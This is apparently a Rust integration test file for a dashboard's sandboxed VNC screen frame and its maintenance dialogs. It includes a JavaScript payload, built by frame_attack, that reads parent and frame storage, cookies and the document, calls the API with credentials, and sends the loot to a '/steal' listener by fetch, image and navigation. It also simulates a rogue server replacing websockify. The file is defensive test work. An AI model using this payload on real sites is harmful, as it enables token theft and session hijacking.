    let server = actix_web::HttpServer::new(move || {
        let seen = seen.clone();
        actix_web::App::new().default_service(actix_web::web::to(
            move |req: actix_web::HttpRequest, body: actix_web::web::Bytes| {
                let seen = seen.clone();
                async move {
                    let headers: Vec<String> = req
                        .headers()
                        .iter()
                        .map(|(k, v)| format!("{k}: {}", v.to_str().unwrap_or_default()))
                        .collect();
                    seen.lock().unwrap().push(format!(
                        "{} {} | {} | {}",
                        req.method(),
                        req.uri(),
                        headers.join("; "),
                        String::from_utf8_lossy(&body)
                    ));
                    actix_web::HttpResponse::Ok()
                        .content_type("text/html")
                        .body(BOT_PAGE)
                }
            },
        ))
    })
    .workers(1)
    .disable_signals()
    .listen(listener)
    .unwrap()
    .run();
    actix_rt::spawn(server);
}

/// The websockify processes (the server and its per-connection children) of this server's host
/// desktops, and the gateway port they listen on.
fn gateway_websockify(s: &TestServer) -> (Vec<u32>, u16) {
    let want = format!(
        "RAKAZO_DESKTOP_TAG={}/",
        s.app.config.data_dir.join("run").display()
    );
    let mut pids = Vec::new();
    let mut port = None;
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(environ) = std::fs::read(entry.path().join("environ")) else {
            continue;
        };
        let tagged = environ.split(|b| *b == 0).any(|v| {
            let v = String::from_utf8_lossy(v);
            v.starts_with(&want) && v.ends_with("/gateway")
        });
        let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        let args: Vec<String> = cmdline
            .split(|b| *b == 0)
            .filter(|a| !a.is_empty())
            .map(|a| String::from_utf8_lossy(a).into_owned())
            .collect();
        if tagged && args.iter().any(|a| a.contains("websockify")) {
            pids.push(pid);
            port = args
                .last()
                .and_then(|a| a.rsplit_once(':'))
                .and_then(|(_, p)| p.parse().ok());
        }
    }
    (pids, port.expect("a running screen gateway"))
}

/// What a script in a screen frame tries, to get at the dashboard's token and the API: the
/// embedding page's storage, document and cookies, its own storage and cookies, the API with
/// the browser's credentials, and sending what it found to the bot's listener at `home` (by
/// fetch, by image, and last by navigating the frame there). Returns what it got.
fn frame_attack(home: &str) -> String {
    format!(
        r#"(async () => {{
  const got = {{}};
  const grab = (k, f) => {{ try {{ got[k] = String(f()); }} catch (e) {{ got[k] = "blocked: " + e.name; }} }};
  const dump = (st) => JSON.stringify(Array.from({{ length: st.length }}, (_, i) => [st.key(i), st.getItem(st.key(i))]));
  grab("origin", () => self.origin);
  grab("parentSessionStorage", () => dump(parent.sessionStorage));
  grab("parentLocalStorage", () => dump(parent.localStorage));
  grab("parentDocument", () => parent.document.documentElement.outerHTML);
  grab("parentCookie", () => parent.document.cookie);
  grab("topLocation", () => top.location.href);
  grab("sessionStorage", () => dump(sessionStorage));
  grab("localStorage", () => dump(localStorage));
  grab("cookie", () => document.cookie);
  grab("opener", () => String(window.opener && window.opener.sessionStorage));
  const body = JSON.stringify({{ jsonrpc: "2.0", id: 1, method: "space.list", params: {{}} }});
  for (const [k, init] of [
    ["rpcJson", {{ method: "POST", credentials: "include", headers: {{ "content-type": "application/json" }}, body }}],
    ["rpcSimple", {{ method: "POST", credentials: "include", body }}],
    ["rpcNoCors", {{ method: "POST", credentials: "include", mode: "no-cors", body }}],
  ]) {{
    try {{ const r = await fetch("/rpc", init); got[k] = r.status + " " + (await r.text()); }}
    catch (e) {{ got[k] = "blocked: " + e.name; }}
  }}
  const loot = encodeURIComponent(JSON.stringify(got));
  try {{ await fetch("{home}/steal?by=fetch&loot=" + loot, {{ mode: "no-cors" }}); got.fetchHome = "sent"; }}
  catch (e) {{ got.fetchHome = "blocked: " + e.name; }}
  try {{ new Image().src = "{home}/steal?by=image&loot=" + loot; }} catch (e) {{}}
  setTimeout(() => {{ try {{ location.href = "{home}/steal?by=navigation&loot=" + loot; }} catch (e) {{}} }}, 300);
  return got;
}})()"#
    )
}

/// Checks what a frame script got: nothing of the token, no storage or document of the
/// dashboard, no answered API call.
fn assert_nothing_reached(got: &Value, token: &str) {
    let text = got.to_string();
    assert!(!text.contains(token), "the frame found the token: {text}");
    assert_eq!(got["origin"], "null", "{text}");
    for k in [
        "parentSessionStorage",
        "parentLocalStorage",
        "parentDocument",
        "parentCookie",
        "topLocation",
    ] {
        assert!(
            got[k].as_str().is_some_and(|v| v.starts_with("blocked")),
            "{k}: {text}"
        );
    }
    // The page's own storage is the reporter's empty in-memory stand-in; no cookies.
    assert_eq!(got["sessionStorage"], "[]", "{text}");
    assert_eq!(got["cookie"], "", "{text}");
    for k in ["rpcJson", "rpcSimple", "rpcNoCors"] {
        let v = got[k].as_str().unwrap_or_default();
        assert!(
            v.starts_with("blocked") || v.starts_with("401") || v.starts_with("0 "),
            "{k} answered: {text}"
        );
        assert!(!v.contains("\"result\""), "{k}: {text}");
    }
}

/// The acceptance test of screen isolation: a bot that serves its own page on its gateway port
/// never has it served to a viewer, and even a script running inside the screen frame (a
/// compromised viewer) cannot read the dashboard's token or call the API with it.
#[actix_rt::test]
async fn a_screen_cannot_read_the_dashboards_token_or_call_the_api() {
    let Some(bin) = chromium() else {
        common::gate::missing("chromium", common::gate::CHROMIUM);
        return;
    };
    let _alone = ONE_AT_A_TIME.lock().await;
    let s = TestServer::start(
        Backend::Sqlite,
        &[("SANDBOX_PROVIDER", "desktop"), ("RAKAZO_ENV", "test")],
    )
    .await
    .unwrap();
    let (_, bots) = s.space_with_bots(1, "team").await;
    let bot = bots[0].clone();
    let card = format!("[data-bot=\"{bot}\"]");
    let token = s.operator_token.clone();
    let long = Duration::from_secs(60);
    // The bot's listener, where a frame script would send what it found.
    let seen: Seen = Default::default();
    let home_listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let home = format!("http://{}", home_listener.local_addr().unwrap());
    bot_server(home_listener, seen.clone());

    let browser = Browser::launch(bin).await;
    let mut cdp = browser.page().await;
    cdp.call(
        "Target.setAutoAttach",
        json!({ "autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true }),
    )
    .await;
    cdp.sign_in(&s.base, &token).await;
    cdp.wait_data(
        "screen connected",
        &format!("{card} .stage"),
        "screen",
        "connected",
        long,
    )
    .await;
    // The token is in the dashboard's storage; the screen is framed with scripts only.
    assert_eq!(
        cdp.eval(&format!(
            "Object.values(sessionStorage).includes({})",
            json!(token)
        ))
        .await,
        json!(true)
    );
    assert_eq!(
        cdp.eval(&format!(
            "document.querySelector('{card} .stage iframe').getAttribute('sandbox')"
        ))
        .await,
        json!("allow-scripts")
    );

    // 1. A script in the live screen frame (as if the RFB stream had taken over noVNC).
    let live = cdp.frame_world("/screen/").await;
    // Only the desktop shows: noVNC's control bar and its "Connected (unencrypted)" banner
    // stay hidden (the dashboard shows its own status).
    let chrome = cdp
        .eval_in(
            &live,
            "(() => { const hidden = id => { const e = document.getElementById(id); \
             return !!e && getComputedStyle(e).display === 'none' && e.getClientRects().length === 0; }; \
             return [hidden('noVNC_control_bar_anchor'), hidden('noVNC_status'), \
             document.documentElement.classList.contains('noVNC_connected')]; })()",
        )
        .await;
    assert_eq!(
        chrome,
        json!([true, true, true]),
        "control bar and banner hidden, screen connected"
    );
    cdp.shot("screen-chrome-hidden").await;
    assert_eq!(
        cdp.eval_in(&live, VIEWER_CHECK).await,
        json!("complete noVNC true"),
        "the live frame is the packaged viewer"
    );
    let got = cdp.eval_in(&live, &frame_attack(&home)).await;
    assert_nothing_reached(&got, &token);
    cdp.shot("14-frame-script-contained").await;

    // 2. The bot replaces websockify on its gateway port with its own server. A screen URL
    // issued now is served by the proxy from the packaged noVNC, never by the bot.
    let url = s.ok("computer.screenUrl", json!({ "botId": bot })).await["url"]
        .as_str()
        .unwrap()
        .to_owned();
    let page_path = url.split('?').next().unwrap().to_owned();
    let (pids, port) = gateway_websockify(&s);
    for pid in &pids {
        let _ = Command::new("kill")
            .args(["-KILL", &pid.to_string()])
            .status();
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    let gateway_listener = loop {
        match std::net::TcpListener::bind(("127.0.0.1", port)) {
            Ok(l) => break l,
            Err(e) => {
                assert!(Instant::now() < deadline, "gateway port stays taken: {e}");
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
    };
    bot_server(gateway_listener, seen.clone());
    // The bot's server answers on the gateway port: it is what the computer serves now.
    let direct = reqwest::get(format!("http://127.0.0.1:{port}/vnc.html"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(direct.contains("bot page"));
    seen.lock().unwrap().clear();

    let packaged = std::fs::read_to_string("/usr/share/novnc/vnc.html").unwrap();
    let page = s
        .http
        .get(format!("{}{page_path}", s.base))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    let csp = page.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(csp.starts_with("sandbox allow-scripts;"), "{csp}");
    assert!(!csp.contains("allow-same-origin"), "{csp}");
    assert_eq!(page.headers()["x-content-type-options"], "nosniff");
    assert_eq!(page.headers()["referrer-policy"], "no-referrer");
    let body = page.text().await.unwrap();
    assert!(!body.contains("bot page"));
    assert_eq!(
        body.replacen("<script src=\"rakazo-reporter.js\"></script>", "", 1)
            .replacen(
                "<link rel=\"stylesheet\" href=\"rakazo-screen.css\"></head>",
                "</head>",
                1
            ),
        packaged
    );
    for other in ["anything-else.html", "steal", "app/bot.js", "vnc_lite.html"] {
        let resp = s
            .http
            .get(format!(
                "{}{}",
                s.base,
                page_path.replace("vnc.html", other)
            ))
            .header("accept", "application/json")
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 404, "{other}");
        assert_eq!(resp.headers()["x-rakazo-screen-reason"], "invalid_path");
        assert!(
            resp.headers()["content-security-policy"]
                .to_str()
                .unwrap()
                .starts_with("sandbox allow-scripts;")
        );
    }

    // The dashboard frames that URL (without autoconnect, so the frame stays while it is
    // examined): the packaged viewer, where a script is as contained as before.
    cdp.eval(&format!(
        "(async () => {{
            const {{ Screen }} = await import('/assets/screen.js');
            const stage = document.createElement('div');
            stage.className = 'stage';
            stage.id = 'probe-bot-page';
            stage.style.width = '400px';
            document.getElementById('bot-list').append(stage);
            new Screen(stage, 'probe', async () => {}).open();
            return true;
        }})()",
        json!(page_path)
    ))
    .await;
    let cap = page_path.trim_end_matches("/vnc.html").to_owned();
    let probe = cdp.frame_world(&cap).await;
    cdp.wait_for(
        "probe frame loaded",
        "document.querySelector('#probe-bot-page iframe') !== null",
        long,
    )
    .await;
    let deadline = Instant::now() + long;
    loop {
        let state = cdp.eval_in(&probe, VIEWER_CHECK).await;
        if state == json!("complete noVNC true") {
            break;
        }
        assert!(Instant::now() < deadline, "probe frame: {state}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let got = cdp.eval_in(&probe, &frame_attack(&home)).await;
    assert_nothing_reached(&got, &token);
    cdp.shot("15-bot-page-never-served").await;

    // The bot's servers never served a page or a script to the browser and never saw the
    // token: all they got is what a contained script could send (if anything).
    tokio::time::sleep(Duration::from_secs(2)).await;
    let log = seen.lock().unwrap().clone();
    for line in &log {
        assert!(!line.contains(&token), "the bot got the token: {line}");
        assert!(
            line.starts_with("GET /steal?") || line.starts_with("GET /websockify?"),
            "the bot was asked for {line}"
        );
    }
    // (A frame that navigated itself to the bot's listener runs the bot's page there, still
    // sandboxed: it reaches nothing either.)
    for line in log.iter().filter(|l| l.contains("from=page")) {
        assert!(line.contains("t=blocked"), "{line}");
    }
    eprintln!("the bot's servers saw: {log:#?}");

    // 3. Opened top-level in the dashboard's own tab (whose storage for the API's origin holds
    // the token), the screen page is still in an opaque origin: its storage is the reporter's
    // empty stand-in and the API does not answer it.
    cdp.call(
        "Page.navigate",
        json!({ "url": format!("{}{page_path}", s.base) }),
    )
    .await;
    cdp.wait_for(
        "screen page top-level",
        "document.readyState === 'complete' && !!document.getElementById('noVNC_control_bar')",
        long,
    )
    .await;
    let got = cdp.eval(&frame_attack(&home)).await;
    let text = got.to_string();
    assert!(!text.contains(&token), "the page found the token: {text}");
    assert_eq!(got["origin"], "null", "{text}");
    assert_eq!(got["sessionStorage"], "[]", "{text}");
    for k in ["rpcJson", "rpcSimple", "rpcNoCors"] {
        assert!(
            !got[k].as_str().unwrap_or_default().contains("\"result\""),
            "{k}: {text}"
        );
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    let log = seen.lock().unwrap().clone();
    assert!(
        !log.iter().any(|l| l.contains(&token)),
        "the bot got the token: {log:#?}"
    );
    drop(browser);
}

/// Computer maintenance in the dashboard (fake provider): an update a worker runs stage by
/// stage shows as a compact pill whose stage follows the real `maintenance.changed` events,
/// the pill opens the maintenance dialog; when the worker stops beating, the operation turns
/// interrupted; a reload restores it and an earlier failure from the API; the interrupted
/// dialog releases only after the explicit confirmation, then Recover runs a real recovery;
/// Update from a computer's row runs a real update, its new machine's preparation stages
/// (image build, then container start) shown on the computer's row.
#[actix_rt::test]
async fn maintenance_pill_and_dialogs_in_headless_chromium() {
    use rakazo_actors::computers::Computers;
    use rakazo_actors::maintenance::{Maintenance, OpKind, Stage, announce};
    use rakazo_actors::reconciler::ReconcileNow;

    let Some(bin) = chromium() else {
        common::gate::missing("chromium", common::gate::CHROMIUM);
        return;
    };
    let _alone = ONE_AT_A_TIME.lock().await;
    let s = TestServer::start(Backend::Sqlite, &[("SANDBOX_IDLE_MS", "0")])
        .await
        .unwrap();
    let (_, bots) = s.space_with_bots(2, "private").await;
    let mut computers = Vec::new();
    for bot in &bots {
        let (run, fence) = s.start_run(bot).await;
        s.exec(&run, fence, "echo up").await.unwrap();
        s.ok(
            "run.finish",
            json!({ "runId": run, "fence": fence, "outcome": "completed" }),
        )
        .await;
        let id = s.ok("computer.forBot", json!({ "botId": bot })).await["id"]
            .as_str()
            .unwrap()
            .to_owned();
        computers.push(id);
    }
    let (a, b) = (computers[0].clone(), computers[1].clone());
    let rt = s.app.runtime().clone();
    let ops = Maintenance::new(s.app.db.clone(), rt.clock.clone());
    let rows = Computers::new(s.app.db.clone());
    // B: an update that failed before the page was opened.
    let failed = ops
        .enqueue(&rows.get(&b).await.unwrap(), OpKind::Update, "someone")
        .await
        .unwrap();
    ops.claim(&failed.id, "worker@gone").await.unwrap().unwrap();
    ops.finish(
        &failed.id,
        "worker@gone",
        Some("the live workspace could not be saved"),
    )
    .await
    .unwrap();
    // A: an update this test runs as its worker, one stage at a time.
    let op = ops
        .enqueue(&rows.get(&a).await.unwrap(), OpKind::Update, "someone")
        .await
        .unwrap();
    ops.claim(&op.id, "worker@test").await.unwrap().unwrap();
    assert!(
        ops.stage(&op.id, "worker@test", Stage::Checkpointing)
            .await
            .unwrap()
    );
    announce(&rt.events, &ops.get(&op.id).await.unwrap());

    let browser = Browser::launch(bin).await;
    let mut cdp = browser.page().await;
    let long = Duration::from_secs(60);
    cdp.sign_in(&s.base, &s.operator_token).await;
    cdp.wait_for(
        "live events",
        "document.getElementById('live').dataset.state === 'live'",
        long,
    )
    .await;
    let pill = format!(".pill[data-op=\"{}\"]", op.id);
    let failed_pill = format!(".pill[data-op=\"{}\"]", failed.id);
    cdp.wait_data("running pill", &pill, "stage", "checkpointing", long)
        .await;
    cdp.wait_data("failed pill", &failed_pill, "state", "failed", long)
        .await;
    // While it runs, the computer offers no second operation.
    assert_eq!(
        cdp.eval(&format!(
            "document.querySelector('[data-computer=\"{a}\"] [data-action=update]').disabled"
        ))
        .await,
        json!(true)
    );
    // The next stage arrives live.
    assert!(
        ops.stage(&op.id, "worker@test", Stage::TearingDown)
            .await
            .unwrap()
    );
    announce(&rt.events, &ops.get(&op.id).await.unwrap());
    cdp.wait_data("live stage", &pill, "stage", "tearing_down", long)
        .await;
    cdp.wait_text("pill text", &pill, "Removing the old machine", long)
        .await;
    cdp.shot("11-maintenance-pill").await;

    // The pill opens the dialog with the stages reached.
    cdp.click(&pill).await;
    cdp.wait_for(
        "maintenance dialog",
        "document.getElementById('maint-dialog').open && document.querySelector('#maint-dialog [data-stage=tearing_down]')?.dataset.status === 'current'",
        long,
    )
    .await;
    assert_eq!(
        cdp.eval(
            "document.querySelector('#maint-dialog [data-stage=checkpointing]').dataset.status"
        )
        .await,
        json!("done")
    );
    cdp.shot("12-maintenance-dialog").await;
    cdp.click("#maint-dialog [data-action=close]").await;
    cdp.wait_for(
        "dialog closed",
        "!document.getElementById('maint-dialog').open",
        long,
    )
    .await;

    // The worker stops beating: after the timeout the reconciler marks it interrupted.
    rt.clock.advance(Duration::from_secs(11 * 60));
    let pass = s
        .app
        .computer_reconciler
        .as_ref()
        .unwrap()
        .send(ReconcileNow)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(pass.interrupted, 1);
    cdp.wait_data("interrupted pill", &pill, "state", "interrupted", long)
        .await;

    // Reopening the page restores the interrupted operation and the failure from the API.
    cdp.call("Page.reload", json!({})).await;
    cdp.wait_for(
        "restored after reload",
        &format!(
            "document.querySelector('{pill}')?.dataset.state === 'interrupted' && document.querySelector('{failed_pill}')?.dataset.state === 'failed'"
        ),
        long,
    )
    .await;
    cdp.wait_for(
        "live after reload",
        "document.getElementById('live').dataset.state === 'live'",
        long,
    )
    .await;

    // The interrupted dialog: Release stays disabled until the explicit confirmation.
    cdp.click(&pill).await;
    cdp.wait_present(
        "interrupted dialog",
        "#maint-dialog [data-view=interrupted] [data-role=workers-stopped]",
        long,
    )
    .await;
    let release = "#maint-dialog [data-action=release-interrupted]";
    assert_eq!(
        cdp.eval(&format!("document.querySelector('{release}').disabled"))
            .await,
        json!(true)
    );
    cdp.click(release).await;
    assert_eq!(
        ops.get(&op.id).await.unwrap().state,
        "interrupted",
        "no release without the confirmation"
    );
    cdp.click("#maint-dialog [data-role=workers-stopped]").await;
    cdp.shot("13-interrupted-dialog").await;
    cdp.click(release).await;
    cdp.wait_data("released", &pill, "state", "released", long)
        .await;
    assert_eq!(ops.get(&op.id).await.unwrap().state, "released");

    // Recovery is available: confirm it (the warning says unsaved work may be lost).
    cdp.wait_present(
        "recover offered",
        "#maint-dialog [data-action=recover-from-dialog]",
        long,
    )
    .await;
    cdp.click("#maint-dialog [data-action=recover-from-dialog]")
        .await;
    cdp.wait_text(
        "recover warning",
        "#maint-dialog [data-view=confirm-recover]",
        "unsaved work may be lost",
        long,
    )
    .await;
    cdp.click("#maint-dialog [data-action=confirm-recover]")
        .await;
    let recovered = format!(".pill[data-computer=\"{a}\"][data-state=completed]");
    cdp.wait_present("recovery completed", &recovered, long)
        .await;
    cdp.shot("14-recovered").await;
    cdp.eval("document.getElementById('maint-dialog').open && document.getElementById('maint-dialog').close(); true")
        .await;

    // Update from B's row runs a real update; its new machine's preparation (an image build
    // first, held here) shows on the computer's row through the actor's events.
    let building = s.app.fake.clone().unwrap().hold_image_build().await;
    cdp.click(&format!("[data-computer=\"{b}\"] [data-action=update]"))
        .await;
    cdp.wait_present(
        "update confirmation",
        "#maint-dialog [data-view=confirm-update]",
        long,
    )
    .await;
    cdp.click("#maint-dialog [data-action=confirm-update]")
        .await;
    let preparing = format!("[data-computer=\"{b}\"] .state[data-stage=image_build]");
    cdp.wait_text(
        "image build shown",
        &preparing,
        "building the computer image",
        long,
    )
    .await;
    cdp.wait_data(
        "update at provisioning",
        &format!(".pill[data-computer=\"{b}\"][data-state=running]"),
        "stage",
        "provisioning",
        long,
    )
    .await;
    cdp.shot("15-preparing-image-build").await;
    drop(building);
    let updated = format!(".pill[data-computer=\"{b}\"][data-state=completed]");
    cdp.wait_present("update completed", &updated, long).await;
    cdp.shot("16-updated").await;

    // A computer quarantined meanwhile (a command's stop went unconfirmed) says so on its row,
    // with what lifts it, once the page reads it again.
    rows.quarantine(&a).await.unwrap();
    cdp.call("Page.reload", json!({})).await;
    cdp.wait_text(
        "quarantined row",
        &format!("[data-computer=\"{a}\"] .state[data-quarantined=true]"),
        "quarantined: recover or reset it",
        long,
    )
    .await;
    cdp.shot("17-quarantined").await;

    let problems: Vec<&String> = cdp
        .logs
        .iter()
        .filter(|l| l.starts_with("exception") || l.contains("Content Security Policy"))
        .collect();
    assert!(problems.is_empty(), "page problems: {problems:?}");
    drop(browser);
}
